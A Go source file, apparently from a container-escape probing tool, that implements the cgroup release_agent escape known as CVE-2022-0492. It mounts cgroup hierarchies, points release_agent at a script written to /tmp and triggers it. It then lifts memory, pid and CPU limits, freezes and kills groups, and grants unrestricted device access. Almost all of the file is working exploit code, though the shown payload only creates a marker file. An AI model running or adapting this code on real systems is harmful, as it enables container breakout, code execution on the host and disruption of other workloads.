package main

import (
	"bufio"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"strings"

	"golang.org/x/sys/unix"
)

// Has the kernel start a program of its own when a control group empties
// (CVE-2022-0492), and lifts the limits of every group.
func attack(where string) {
	switch where {
	case "host":
		all()
		nested("nested")
		again("groups", unix.CLONE_NEWUSER|unix.CLONE_NEWNS|unix.CLONE_NEWCGROUP)
		again("groups", unix.CLONE_NEWNS|unix.CLONE_NEWCGROUP)
	case "nested", "groups":
		all()
	}
}

func all() {
	os.WriteFile("/tmp/"+evil, []byte("#!/bin/sh\ntouch /tmp/"+evil+"-ran\n"), 0o755)
	kinds := []string{"none,name=" + evil, "name=systemd"}
	if f, err := os.Open("/proc/cgroups"); err == nil {
		for sc := bufio.NewScanner(f); sc.Scan(); {
			if name := strings.Fields(sc.Text())[0]; name[0] != '#' {
				kinds = append(kinds, name)
			}
		}
		f.Close()
	}
	hierarchy("cgroup2", "")
	for _, k := range kinds {
		hierarchy("cgroup", k)
	}
}

func hierarchy(fstype, options string) {
	dir := "/tmp/groups"
	os.MkdirAll(dir, 0o755)
	err := unix.Mount("cgroup", dir, fstype, 0, options)
	tried("mount "+fstype+" "+options, err)
	if err != nil {
		return
	}
	defer unix.Unmount(dir, unix.MNT_DETACH)
	put(dir+"/release_agent", "/tmp/"+evil)
	put(dir+"/notify_on_release", "1")
	if err := os.Mkdir(dir+"/"+evil, 0o755); err == nil {
		say("ok", "make a group of "+options)
		put(dir+"/"+evil+"/notify_on_release", "1")
		put(dir+"/"+evil+"/cgroup.procs", "0")
		put(dir+"/cgroup.procs", "0")
		os.Remove(dir + "/" + evil)
	}
	filepath.WalkDir(dir, func(path string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return nil
		}
		switch name := d.Name(); {
		case name == "cgroup.procs" || name == "tasks":
			put(path, fmt.Sprint(os.Getpid()))
			put(path, "1")
		case strings.Contains(name, "limit_in_bytes"), name == "pids.max", name == "memory.max", name == "cpu.cfs_quota_us":
			put(path, "-1")
			put(path, "max")
		case name == "freezer.state":
			put(path, "FROZEN")
		case name == "cgroup.kill", name == "cgroup.freeze":
			put(path, "1")
		case name == "devices.allow":
			put(path, "a *:* rwm")
		}
		return nil
	})
}
